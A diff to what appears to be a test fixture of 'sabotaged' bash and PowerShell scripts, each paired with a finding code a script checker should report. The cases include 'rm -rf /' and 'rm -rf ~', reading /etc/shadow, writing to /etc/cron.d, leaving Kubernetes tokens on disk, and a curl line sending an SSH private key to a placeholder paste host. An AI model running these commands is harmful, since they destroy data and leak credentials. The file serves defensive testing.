@@ -4,6 +4,7 @@ import { spoilt, written } from './sabotage.js';
 const token = spoilt('token', 'bash');
 const powershell = spoilt('token', 'powershell');
 const bash = written('bash');
+const ps = written('powershell');
 
 const start = ['set -euo pipefail', 'umask 077', 'TOKEN=$(kubectl create token default --context=lab)'];
 const work = ['set -euo pipefail', 'WORK=$(mktemp -d)', 'trap \'rm -rf -- "$WORK"\' EXIT'];
@@ -39,10 +40,12 @@ export const fileSabotages = [
     'chmod',
   ),
   bash('a token file stays behind', [...start, 'printf %s "$TOKEN" >token'], 'KS5105', '>token'),
-  token('the clean-up is missing', 'trap clean_up EXIT\n', '', 'KS5105', {
-    at: 'WORK=$(mktemp -d)',
-    todo: 'the private folder holds no secret here',
-  }),
+  token(
+    'the clean-up is missing, and the folder holds a token',
+    'trap clean_up EXIT\n',
+    'kubectl create token default --context=lab >"$WORK/token"\n',
+    'KS5105',
+  ),
   bash(
     'the clean-up removes something else',
     [
@@ -72,12 +75,15 @@ export const fileSabotages = [
   ),
   bash('rm -rf ~', ['set -eu', 'rm -rf ~'], 'KS3110', 'rm -rf'),
   bash('rm -rf /', ['set -eu', 'rm -rf /'], 'KS3110', 'rm -rf'),
+  bash('a private file of the system is printed', ['set -eu', 'cat /etc/shadow'], 'KS5103', '/etc/shadow'),
   bash(
-    'a file of the system is read',
-    ['set -eu', 'cat /etc/shadow'],
-    'KS3105',
-    '/etc/shadow',
-    'what is read outside the work folder counts as unknown text, without a finding',
+    'a private key goes to a foreign host',
+    [
+      'set -eu',
+      'curl -q --fail --max-time 9 --data-binary @"$HOME/.ssh/id_ed25519" https://paste.example.net/',
+    ],
+    'KS5106',
+    'id_ed25519',
   ),
   bash('a file of the system is written', ['set -eu', 'echo x >/etc/cron.d/x'], 'KS3105', '/etc/cron.d'),
   bash('the kubeconfig is overwritten', ['set -eu', 'echo x >~/.kube/config'], 'KS3105', '.kube/config'),
@@ -131,11 +137,18 @@ export const fileSabotages = [
     'KS5105',
     { at: '$HOME/token' },
   ),
-  powershell(
-    'the folder is not removed',
-    'if (Test-Path -LiteralPath $work) { Remove-Item -LiteralPath $work -Recurse -Force }',
-    '',
+  ps(
+    'the folder is not removed, and it holds a token',
+    [
+      '#requires -Version 7.3',
+      "$ErrorActionPreference = 'Stop'",
+      '$work = [IO.Path]::Combine([IO.Path]::GetTempPath(), [IO.Path]::GetRandomFileName())',
+      '$null = [IO.Directory]::CreateDirectory($work, [IO.UnixFileMode]448)',
+      '$token = [string](& kubectl create token default --context=lab)',
+      "if ($LASTEXITCODE -ne 0) { throw 'no token' }",
+      '[IO.File]::WriteAllText("$work/token", $token)',
+    ],
     'KS5105',
-    { at: '[IO.File]::WriteAllBytes', todo: 'the private folder holds no secret here' },
+    '[IO.File]::WriteAllText',
   ),
 ];
